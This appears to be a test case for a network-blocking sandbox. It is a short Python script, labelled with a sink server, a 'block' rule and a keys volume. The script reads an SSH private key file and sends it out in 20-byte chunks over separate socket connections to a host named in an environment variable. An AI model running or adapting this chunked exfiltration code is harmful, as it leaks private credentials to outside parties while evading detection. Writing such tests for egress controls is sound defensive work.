# what: a key that lies in a project goes out in pieces, to a peer that no rule names and that never says a word
# server: sink
# rule: block
# volume: keys/id_rsa
import os, socket, time

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
with open("/data/keys/id_rsa", "rb") as f:
    secret = f.read()
for at in range(0, len(secret), 20):
    with socket.create_connection((host, int(port))) as s:
        s.sendall(secret[at:at + 20])
time.sleep(float(os.environ.get("LINGER", "20")))
print("done")
